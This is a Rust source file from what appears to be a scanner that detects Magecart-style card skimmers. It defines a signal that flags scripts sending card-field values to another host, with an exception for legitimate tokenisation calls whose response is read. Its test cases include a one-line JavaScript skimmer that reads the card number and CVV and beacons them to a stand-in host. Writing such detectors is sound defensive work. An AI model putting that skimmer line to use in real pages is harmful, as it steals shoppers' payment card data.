//! `card-data-sent-abroad`.

use crate::facts::Atom;
use crate::signals::answered::reads_answer;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "card-data-sent-abroad",
    description: "The script sends the values of card fields to another host.",
    severity: Severity::High,
    classes: ClassSet::MAGECART,
    needs: &[one(&[Atom::CardSentAbroad])],
    within: 0,
    only_if: Some(is_taken),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var d={};d.n=document.getElementById('cc_number').value;d.c=document.getElementById('cvv').value;navigator.sendBeacon('https://c.example/g',JSON.stringify(d))",
        ],
        without: &[
            "var d=document.getElementById('cc_number').value;if(luhn(d))fetch('/order',{body:d})",
            r#"async function pay(){const r=await fetch('https://sandbox.lux.example/card_tokens',{method:'POST',body:JSON.stringify({n:document.getElementById('cc_number').value,c:document.getElementById('cvv').value})});const t=await r.json();token.value=t.id;form.submit()}"#,
            r#"function tok(f,c){$.ajax({url:'https://pay.sa.example/cards',type:'POST',data:JSON.stringify({number:f.cardNumber.value,cvv:f.cvv.value}),success:function(r){c(r.token)}})}"#,
        ],
    },
};

/// Whether nobody reads an answer: who pays gets a token for the card from a payment service.
fn is_taken(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    !reads_answer(near.among((held.last as usize).saturating_sub(AROUND)..held.last as usize + AROUND))
}

/// Items around where it is sent in which an answer is read.
const AROUND: usize = 80;
